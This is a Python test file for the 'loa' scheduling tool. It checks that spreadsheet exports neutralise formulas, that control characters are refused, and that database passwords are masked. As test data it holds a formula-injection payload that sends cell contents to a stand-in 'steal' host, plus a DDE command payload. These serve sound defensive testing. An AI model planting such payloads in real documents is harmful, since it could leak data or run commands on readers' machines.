"""Hardening of loa's inputs (issue 10, items 9, 10, 16, 17): formulas in spreadsheets, control characters,
database URLs with passwords, and input faults reported as input faults (one line, exit 2), never "internal error".
"""
from __future__ import annotations

import datetime as dt
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import campaign_toml, future_day
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from loa.scheduler.config import config_template
from support.organization import fill_organization

FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1, "Bấm vào đây")'


def _published_campaign(project, title: str) -> None:
    text = campaign_toml("tuan-le", start=future_day(), posts=1).replace('title = "Bài số 1"',
                                                                         f"title = '{title}'")
    project.ok("campaign", "import", str(project.write("c.toml", text)), "--approve")
    post = project.json("queue")["posts"][0]["id"]
    project.ok("publish", str(post))


def test_report_xlsx_keeps_formulas_as_text(project):
    _published_campaign(project, FORMULA)
    project.ok("log", "add", "--campaign", "tuan-le", "--kind", "offline", "--title", "@SUM(1+1)*cmd|' /C calc'!A0",
               "--place", "+1+1", "--count", "3")
    target = project.root / "r.xlsx"
    fill_organization(project.config)  # the shipped config.toml holds placeholders
    project.ok("report", "--campaign", "tuan-le", "--format", "xlsx", "-o", str(target))
    workbook = load_workbook(target)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    texts = {cell.value for cell in cells}
    assert {FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"} <= texts
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def test_log_export_xlsx_and_csv_still_neutralise_formulas(project):
    _published_campaign(project, FORMULA)
    target = project.root / "log.xlsx"
    project.ok("log", "export", "--format", "xlsx", "-o", str(target))
    cells = [cell for row in load_workbook(target).active.iter_rows() for cell in row]
    assert FORMULA in {cell.value for cell in cells}
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    project.ok("log", "export", "--format", "csv", "-o", str(project.root / "log.csv"))
    assert "'" + FORMULA.replace('"', '""') in (project.root / "log.csv").read_text(encoding="utf-8-sig")


# --- item 10: control characters are refused where text comes in ---------------------------------------------

CONTROLS = st.one_of(st.characters(min_codepoint=0, max_codepoint=0x1F, exclude_characters="\t\n"),
                     st.characters(min_codepoint=0x7F, max_codepoint=0x9F))
FIXTURE_REUSE = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def _one_line_naming(project, args, field: str) -> str:
    before = project.counts()
    line = project.fails(*args)
    assert field in line and "control character U+" in line, line
    assert project.counts() == before  # nothing written
    return line


@FIXTURE_REUSE
@given(char=CONTROLS, text=st.text(alphabet=st.characters(categories=["L", "N", "Zs"]), max_size=10))
def test_cli_text_with_a_control_character_is_refused(project, char, text):
    project.write("c.toml", campaign_toml("tuan-le", posts=0))
    if not project.json("campaign", "list")["campaigns"]:
        project.ok("campaign", "import", str(project.root / "c.toml"))
    at = f"{future_day():%d/%m/%Y} 09:00"
    title = f"Khai mạc{text}{char}[31m"
    line = _one_line_naming(project, ["post", "add", "--campaign", "tuan-le", "--at", at, "--title", title,
                                      "--body", "Nội dung"], "--title")
    assert char not in line  # the character itself never reaches the terminal
    _one_line_naming(project, ["post", "add", "--campaign", "tuan-le", "--at", at, "--title", "Tiêu đề",
                               f"--body=Nội dung{char}"], "--body")
    _one_line_naming(project, ["log", "add", "--campaign", "tuan-le", "--kind", "note", "--title", "Ghi chú",
                               "--place", f"Cần Thơ{char}"], "--place")


def test_tab_and_newline_are_text(project):
    project.ok("campaign", "import", str(project.write("c.toml", campaign_toml("tuan-le", posts=0))))
    project.ok("post", "add", "--campaign", "tuan-le", "--at", f"{future_day():%d/%m/%Y} 09:00", "--title",
               "Tiêu\tđề", "--body", "Dòng một\n\nDòng hai")
    assert project.sql("SELECT title, body FROM posts") == [("Tiêu\tđề", "Dòng một\n\nDòng hai")]


@FIXTURE_REUSE
@given(char=CONTROLS, field=st.sampled_from(["title", "body", "name", "plan_ref", "hashtags", "headline"]))
def test_campaign_file_with_a_control_character_is_refused(project, char, field):
    escaped = f"\\u{ord(char):04X}"  # TOML's own escape: the file itself is valid TOML
    text = campaign_toml("tuan-le", posts=2, post_lines='banner = { headline = "Tiêu đề" }')
    replacements = {"title": ('title = "Bài số 2"', f'title = "Bài số 2{escaped}"', "post 2 (Bài số 2): title:"),
                    "body": ('body = "Nội dung bài số 1."', f'body = "Nội{escaped} dung"', "post 1 (Bài số 1): text:"),
                    "name": ('name = "Tuần', f'name = "{escaped}Tuần', "campaign name:"),
                    "plan_ref": ("[campaign]\n", f'[campaign]\nplan_ref = "KH {escaped}"\n', "plan number:"),
                    "hashtags": ('"#HocTapSuotDoi"', f'"#Hoc{escaped}"', "hashtags: item 1:"),
                    "headline": ('headline = "Tiêu đề" }', f'headline = "Tiêu đề{escaped}" }}', "post 1 (Bài số 1): banner:")}
    old, new, name = replacements[field]
    path = project.write("c.toml", text.replace(old, new, 1))
    line = _one_line_naming(project, ["campaign", "import", str(path)], name)
    assert f"{path}:" in line


def test_config_with_a_control_character_is_refused(project):
    text = project.config.read_text(encoding="utf-8")
    assert '\nagency = "' in text
    project.config.write_text(text.replace('\nagency = "', '\nagency = "\\u001b[2J', 1), encoding="utf-8")
    line = project.fails("campaign", "list")
    assert "[organization]: agency name:" in line and "U+001B" in line and "config.toml:" in line


def test_arguments_that_are_not_utf8_are_refused(project):
    project.ok("campaign", "import", str(project.write("c.toml", campaign_toml("tuan-le", posts=0))))
    # Python hands bytes that are not UTF-8 over as lone surrogates (b"\xff" -> "\udcff")
    line = project.fails("post", "add", "--campaign", "tuan-le", "--at", f"{future_day():%d/%m/%Y} 09:00",
                         "--title", "Ti\udcffêu", "--body", "x")
    assert "--title" in line and "UTF-8" in line
    line = project.fails("campaign", "show", "tu\udcff")
    assert "argument 5" in line  # loa --config PATH campaign show VALUE


def test_arguments_that_are_not_utf8_are_refused_in_a_real_process(project):
    loa = Path(sys.executable).parent / "loa"
    result = subprocess.run([loa, "--config", project.config, "log", "add", "--campaign", b"tu\xffan",
                             "--kind", "note", "--title", "x"], capture_output=True, cwd=project.root, timeout=120)
    assert result.returncode == 2, result.stderr
    assert result.stderr.decode().strip().splitlines() == ["error: --campaign: is not valid UTF-8 text"]


# --- item 16: no password in the database URL of config.toml, and none ever shown ----------------------------

def _set_database_url(project, url: str) -> None:
    text = project.config.read_text(encoding="utf-8")
    project.config.write_text(text.replace("[database]\n", f'[database]\nurl = "{url}"\n', 1), encoding="utf-8")


@pytest.mark.parametrize("url", ["postgresql+psycopg://loa@127.0.0.1/loa?password=hunter2",
                                 "postgresql+psycopg://loa@127.0.0.1/loa?sslmode=require&sslpassword=hunter2",
                                 "postgresql+psycopg://loa@127.0.0.1/loa?PASSWORD=hunter2",
                                 "postgresql+psycopg://loa:hunter2@127.0.0.1/loa"])
def test_password_in_the_config_url_is_refused(bare, url):
    bare.config.write_text(f'[database]\nurl = "{url}"\n', encoding="utf-8")
    line = bare.fails("init")
    assert "[database]: address" in line and "LOA_DATABASE_URL" in line and "hunter2" not in line
    assert not (bare.root / "var").exists()


def test_password_from_the_environment_is_never_shown(project):
    url = f"sqlite:///{project.root}/var/env.db?password=hunter2&sslpassword=s3cret&mode=rwc"
    result = project.run("init", env={"LOA_DATABASE_URL": url})
    assert result.exit_code == 0, result.output
    assert "hunter2" not in result.output and "s3cret" not in result.output
    assert "password=***" in result.stdout and "sslpassword=***" in result.stdout and "mode=rwc" in result.stdout
    (project.root / "var" / "env.db").unlink()
    other = f"sqlite:///{project.root}/var/nothing.db?password=hunter2"
    result = project.run("queue", env={"LOA_DATABASE_URL": other})
    assert result.exit_code == 2 and "hunter2" not in result.output and "password=***" in result.stderr


def test_password_of_a_postgresql_url_from_the_environment_is_masked(bare, postgres):
    url = postgres.create_database("masked").replace("loa@", "loa:hunter2@") + "?password=hunter3"
    bare.config.write_text('[defaults]\ntimezone = "Asia/Ho_Chi_Minh"\n', encoding="utf-8")
    result = bare.run("init", env={"LOA_DATABASE_URL": url})
    assert result.exit_code == 0, result.output
    assert "hunter2" not in result.output and "hunter3" not in result.output
    assert "loa:***@127.0.0.1" in result.stdout and "password=***" in result.stdout


# --- item 17: input faults are exit 2 with one line, runtime faults exit 1 with one line, never "internal error" --

@pytest.mark.parametrize("day", [10**12, 2**62, 400_000, 0, -5])
def test_day_number_out_of_range_is_refused(project, day):
    text = campaign_toml("tuan-le", posts=2).replace("day = 2", f"day = {day}", 1)
    line = project.fails("campaign", "import", str(project.write("c.toml", text)))
    assert "post 2 (Bài số 2): day of the campaign" in line
    assert project.counts()["posts"] == 0


def test_post_past_the_year_2999_is_an_error_not_a_warning(project):
    text = campaign_toml("tuan-le", start=dt.date(2999, 12, 25), posts=1).replace("day = 1", "day = 8", 1)
    line = project.fails("campaign", "import", str(project.write("c.toml", text)))
    assert "post 1 (Bài số 1): day of the campaign" in line and "1970" in line and "2999" in line
    assert project.counts()["posts"] == 0


@pytest.mark.parametrize(("setting", "key"), [
    ("lease_seconds = inf", "daemon.lease_seconds"), ("lease_seconds = nan", "daemon.lease_seconds"),
    ("lease_seconds = 1e300", "daemon.lease_seconds"), ('lease_seconds = "600"', "daemon.lease_seconds"),
    ("max_attempts = true", "daemon.max_attempts"), ("max_attempts = 2.5", "daemon.max_attempts"),
    ("retry_max_seconds = -inf", "daemon.retry_max_seconds"), ("grace_minutes = 1e20", "daemon.grace_minutes"),
    ("health_minutes = 0", "daemon.health_minutes"), ('sweep_seconds = "1"', "daemon.sweep_seconds")])
def test_daemon_settings_are_strict_numbers_in_sane_ranges(project, setting, key):
    text = project.config.read_text(encoding="utf-8")
    project.config.write_text(text.replace("\n[daemon]\n", f"\n[daemon]\n{setting}\n", 1), encoding="utf-8")
    for command in (["status"], ["run", "--once"]):
        line = project.fails(*command)
        table, name = key.split(".")
        assert f"[{table}]: " in line and name in line and "config.toml:" in line, line


def test_channel_settings_are_strict_too(project):
    project.set_channel("portal", 'adapter = "static-site"\npath = "var/site"\nconcurrency = "2"')
    assert "channel portal: the deliveries sent at once must be a whole number" in project.fails("queue")
    project.set_channel("portal", 'adapter = "static-site"\npath = "var/site"\nconcurrency = true')
    assert "channel portal: the deliveries sent at once must be a whole number" in project.fails("queue")


@pytest.mark.parametrize("folder", ["/dev/null", "/dev/null/media", "config.toml"])
def test_media_folder_that_is_not_a_folder_is_refused(project, folder):
    text = project.config.read_text(encoding="utf-8")
    assert '\nmedia = "var/media"' in text
    project.config.write_text(text.replace('\nmedia = "var/media"', f'\nmedia = "{folder}"', 1), encoding="utf-8")
    path = project.write("c.toml", campaign_toml("tuan-le", posts=1, post_lines='banner = { headline = "Tiêu đề" }'))
    line = project.fails("campaign", "import", str(path))
    assert "[render]: media:" in line and "is not a folder" in line
    assert project.counts()["posts"] == 0


@pytest.fixture
def small_disk(project):
    """The media folder on a 200 kB tmpfs: a real ENOSPC, not a patched function."""
    media = project.root / "var" / "media"
    media.mkdir(parents=True, exist_ok=True)
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=200k", "tmpfs", str(media)], capture_output=True)
    assert mounted.returncode == 0, f"this test mounts a tmpfs (needs root): {mounted.stderr!r}"
    try:
        yield media
    finally:
        subprocess.run(["umount", str(media)], check=True)


def test_disk_full_during_import_is_one_line_exit_1_and_nothing_queued(project, small_disk):
    banner = 'banner = { headline = "Khai mạc Tuần lễ học tập suốt đời", sizes = ["a3", "story", "square"] }'
    path = project.write("c.toml", campaign_toml("tuan-le", posts=6, post_lines=banner))
    line = project.fails("campaign", "import", str(path), code=1)
    assert line.startswith("error: cannot write") and "the disk is full" in line, line
    assert "internal error" not in line
    assert project.counts()["posts"] == 0 and project.counts()["campaigns"] == 0


def test_corrupt_database_is_a_database_error_naming_it(project):
    with open(project.db_path, "r+b") as handle:
        handle.write(b"this is not a database " * 200)
    for command in (["queue"], ["status"], ["campaign", "list"]):
        line = project.fails(*command, code=1)
        assert line.startswith("error: database error: ") and str(project.db_path) in line, line
        assert "internal error" not in line


def test_channels_check_before_init(bare):
    bare.config.write_text(config_template(), encoding="utf-8")
    result = bare.run("channels", "check")
    assert result.exit_code == 0, result.output
    assert "portal: OK" in result.stdout and "Traceback" not in result.output
    assert not bare.db_path.exists()  # checking channels creates no database


@pytest.mark.parametrize("moment", ["2999-12-31T23:59:00-12:00", "1970-01-01T00:30:00+14:00"])
def test_a_moment_that_is_outside_1970_2999_in_the_campaign_timezone_is_an_error(project, moment):
    project.ok("campaign", "import", str(project.write("c.toml", campaign_toml("tuan-le", posts=0))))
    line = project.fails("post", "add", "--campaign", "tuan-le", "--at", moment, "--title", "T", "--body", "B",
                         "--allow-past")
    assert "--at" in line and "1970" in line and "2999" in line and "warning" not in line
    assert project.counts()["posts"] == 0
